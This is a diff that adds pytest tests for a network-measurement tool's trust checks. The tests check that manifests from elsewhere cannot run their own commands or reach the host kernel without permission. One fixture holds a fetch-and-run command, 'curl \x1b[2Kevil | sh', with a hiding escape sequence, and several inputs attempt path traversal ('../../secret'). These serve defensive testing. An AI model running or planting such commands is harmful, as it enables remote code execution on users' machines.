@@ -1,0 +1,163 @@
+"""Manifests from elsewhere: what they may run without the caller's permission."""
+
+import json
+import re
+from types import SimpleNamespace
+
+import pytest
+
+from losslab import cli
+from losslab.artifact import verify
+from losslab.artifact.results import Replicate
+from losslab.backends.base import GUEST, HOST, VIRTUAL
+from losslab.campaign import export, replicate, trust
+from losslab.errors import LosslabError
+
+COMMAND = {
+    "algorithm": "cubic", "app": "command", "duration_s": 1, "warmup_s": 0.1,
+    "sender_command": "curl \x1b[2Kevil | sh", "receiver_command": "./receive",
+    "bring": "tests/fixtures/programs",
+}  # fmt: skip
+
+
+def manifest(cell, where=GUEST):
+    instrument = {} if where == GUEST else {"where": where}
+    return {
+        "cell": {"algorithm": "cubic"} | cell, "seed": 1, "backend": VIRTUAL,
+        "instrument": instrument, "video_sha256": None,
+    }  # fmt: skip
+
+
+def written(folder, content):
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "manifest.json").write_text(json.dumps(content))
+    return folder
+
+
+@pytest.fixture
+def measured(monkeypatch):
+    """Note what is measured, and measure nothing."""
+    found = []
+
+    def run(condition, *_, **__):
+        found.append(condition)
+        raise LosslabError("measured")
+
+    tools = SimpleNamespace(provenance={})
+    for module in ("losslab.commands", "losslab.campaign.export", "losslab.artifact.verify"):
+        monkeypatch.setattr(f"{module}.run", run)
+    for module in ("losslab.campaign.export", "losslab.artifact.verify"):
+        monkeypatch.setattr(f"{module}.instrument", lambda *_: tools)
+    monkeypatch.setattr("losslab.campaign.instrument.instrument", lambda *_: tools)
+    return found
+
+
+@pytest.mark.parametrize("app", ["iperf3", "web", "quic", "ffmpeg"])
+def test_built_in_apps_need_no_permission(app):
+    condition = trust.require_trusted(manifest({"app": app, "duration_s": 40}), trust=False)
+    assert condition.app == app
+
+
+def test_a_refusal_shows_each_command_and_folder_and_the_option():
+    with pytest.raises(LosslabError) as error:
+        trust.require_trusted(manifest(COMMAND), trust=False)
+    words = str(error.value)
+    # An escape sequence could hide what follows it.
+    for shown in (
+        "on the sender: 'curl \\x1b[2Kevil | sh'",
+        "'./receive'",
+        "/tests/fixtures/programs",
+    ):
+        assert shown in words
+    assert "\x1b" not in words
+    assert trust.OPTION in error.value.hint
+    assert trust.require_trusted(manifest(COMMAND), trust=True).app == "command"
+
+
+def test_a_manifest_cannot_ask_for_this_machines_own_kernel():
+    with pytest.raises(LosslabError, match="own kernel, as root"):
+        trust.require_trusted(manifest({}, HOST), trust=False)
+    assert trust.require_trusted(manifest({}, HOST), trust=True)
+
+
+@pytest.mark.parametrize("trusted", [False, True])
+def test_a_backend_that_there_is_not_is_refused(trusted):
+    for content in (manifest({}, "moon"), manifest({}) | {"backend": "none-such"}):
+        with pytest.raises(LosslabError, match="must name one of the backends"):
+            trust.require_trusted(content, trusted)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        {"trace": "../../secret"}, {"image": "../secret"}, {"kernel": "none-such"},
+        {"algorithm": "../../secret"}, {"app": "datagram", "scheme": "none-such"},
+        {"flows": "none-such"}, {"app": "none-such"},
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("trusted", [False, True])
+def test_names_that_the_repository_does_not_have_are_refused(cell, trusted):
+    with pytest.raises(LosslabError, match="must have a condition that can be measured"):
+        trust.require_trusted(manifest(cell), trusted)
+
+
+def test_rerun_asks_for_permission(tmp_path, capsys, measured):
+    folder = str(written(tmp_path / "run", manifest(COMMAND)))
+    assert cli.main(["rerun", folder]) == 1
+    assert "on the receiver: './receive'" in capsys.readouterr().err
+    assert measured == []
+    assert cli.main(["rerun", folder, trust.OPTION]) == 1
+    assert [condition.app for condition in measured] == ["command"]
+
+
+def test_export_asks_for_permission(tmp_path, measured):
+    content = manifest(COMMAND)
+    folder = written(tmp_path / "run", content)
+    with (
+        pytest.raises(LosslabError, match="own programs"),
+        export.captured(folder, content, "r1-r2"),
+    ):
+        pass
+    assert measured == []
+    with (
+        pytest.raises(LosslabError, match=re.escape("measured")),
+        export.captured(folder, content, "r1-r2", trusted=True),
+    ):
+        pass
+    assert len(measured) == 1
+
+
+def test_verify_asks_for_permission(tmp_path, measured, monkeypatch):
+    path = "results/cells/loss/cell/0"
+    written(tmp_path / path, manifest(COMMAND))
+    one = Replicate(path, {}, VIRTUAL, 1.0)
+    monkeypatch.setattr(verify, "read_digests", lambda _: {})
+    monkeypatch.setattr(verify, "replicates", lambda _: [one])
+    (tmp_path / verify.DIGESTS).touch()
+    found = verify.verify(tmp_path, 1, "2026-01-31")
+    assert not found.good
+    assert "on the receiver: './receive'" in verify.statement(found)
+    assert measured == []
+    with pytest.raises(LosslabError, match="measured"):
+        verify.verify(tmp_path, 1, "2026-01-31", trusted=True)
+
+
+def test_a_guest_gets_a_copy_of_the_video(tmp_path, monkeypatch):
+    """It may write to its job's folder; other jobs stream the original."""
+    video = tmp_path / "video.mp4"
+    video.write_bytes(b"video")
+    job = tmp_path / "job"
+    job.mkdir()
+
+    def run(_, __, its):
+        (its.folder / "video.mp4").write_bytes(b"other")
+        raise LosslabError("run")
+
+    tools = SimpleNamespace(backend=VIRTUAL, where=GUEST, kernel=None, image_roots=())
+    monkeypatch.setattr(replicate.runner, "run", run)
+    monkeypatch.setattr(replicate.intact, "require", lambda *_: None)
+    condition = trust.require_trusted(manifest({"app": "ffmpeg", "duration_s": 40}), trust=False)
+    how = replicate._How(video, None, None, False, ())
+    with pytest.raises(LosslabError, match="run"):
+        replicate._measure(condition, 1, job, tools, how)
+    assert video.read_bytes() == b"video"
